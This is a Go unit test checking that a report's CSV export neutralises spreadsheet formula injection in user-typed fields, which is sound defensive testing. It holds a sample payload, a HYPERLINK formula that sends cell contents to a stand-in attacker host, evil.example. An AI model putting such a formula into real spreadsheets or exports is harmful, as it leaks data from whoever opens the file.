package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/worldcafe/worldcafe/report"
)

// TestCSVCellsNeverStartAFormula writes a report in which every text a
// person typed (question, author, group, theme, note) begins with a
// character a spreadsheet reads as the start of a formula, reads the CSV
// back as a spreadsheet would, and checks that every such cell comes back
// as text: quoted with a leading apostrophe and otherwise unchanged.
func TestCSVCellsNeverStartAFormula(t *testing.T) {
	leads := []struct{ name, lead string }{
		{"equals", "="}, {"plus", "+"}, {"minus", "-"}, {"at", "@"},
		{"tab", "\t"}, {"carriage return", "\r"}, {"line feed", "\n"},
		{"equals after spaces", "  ="},
	}
	const payload = `HYPERLINK("http://evil.example/?"&A1,"x")`
	for _, l := range leads {
		t.Run("a leading "+l.name+" in every field", func(t *testing.T) {
			typed := func(field string) string { return l.lead + field + payload }
			rep := report.Report{
				Title:         typed("title"),
				Conversations: []report.Conversation{{Question: 0, Text: typed("question")}},
				Notes: []report.Note{{
					ID: "n1", Question: 0, Round: 1, Table: 1, At: 1741683600000,
					Author: typed("author"), Group: typed("group"), Theme: typed("theme"), Text: typed("note"),
				}},
			}
			var buf bytes.Buffer
			if err := report.Write(&buf, rep, "csv"); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
			if err != nil {
				t.Fatalf("the CSV does not parse: %v\n%s", err, buf.String())
			}
			if len(records) != 2 {
				t.Fatalf("the CSV has %d records, want a header and one note:\n%q", len(records), records)
			}
			header, row := records[0], records[1]
			for i, cell := range row {
				if formulaStart(cell) {
					t.Errorf("column %s reads back as %q: a spreadsheet runs it", header[i], cell)
				}
			}
			// What the writer keeps of each typed text: its line breaks become
			// CRLF on the wire and LF when read back.
			kept := func(s string) string { return "'" + strings.ReplaceAll(s, "\r", "\n") }
			want := map[string]string{
				"question": kept(typed("question")), "author": kept(typed("author")),
				"group": kept(typed("group")), "theme": kept(typed("theme")), "note": kept(typed("note")),
			}
			for i, col := range header {
				if w, ok := want[col]; ok && row[i] != w {
					t.Errorf("column %s reads back as %q, want %q", col, row[i], w)
				}
			}
		})
	}
}

// formulaStart reports whether a spreadsheet could take cell for a
// formula: its first character after any spaces is one that starts one,
// or a control character that some spreadsheets skip before looking.
func formulaStart(cell string) bool {
	s := strings.TrimLeft(cell, " ")
	return s != "" && strings.ContainsAny(s[:1], "=+-@\t\r\n")
}
